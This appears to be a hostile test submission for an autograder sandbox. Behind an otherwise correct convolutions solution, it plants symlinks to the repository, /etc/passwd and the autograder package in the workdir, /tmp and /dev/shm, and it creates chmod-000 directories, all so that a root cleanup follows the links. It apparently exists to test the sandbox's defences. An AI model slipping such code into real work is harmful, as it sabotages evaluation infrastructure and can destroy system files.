"""Hostile submission: plants symlinks (in its workdir and /tmp) pointing at the repo and /etc, and chmod-000 directories, hoping the root cleanup follows them; the solution is otherwise correct

Otherwise a correct solution (a copy of solutions/convolutions.py).
"""
# base: solutions/convolutions.py (this file's code runs after it)

import os


for _index, _target in enumerate(("/work/main", "/work/main/solutions/convolutions.py", "/etc/passwd", "/work/main/autograder/convkit")):
    for _where in (".", "/tmp", "/dev/shm"):
        try:
            os.symlink(_target, os.path.join(_where, f"trap{_index}"))
        except OSError:
            pass


for _where in (".", "/tmp"):
    try:
        os.makedirs(os.path.join(_where, "locked", "inner"), exist_ok=True)
        os.symlink("/work/main/pyproject.toml", os.path.join(_where, "locked", "inner", "link"))
        os.chmod(os.path.join(_where, "locked", "inner"), 0)
        os.chmod(os.path.join(_where, "locked"), 0)
    except OSError:
        pass
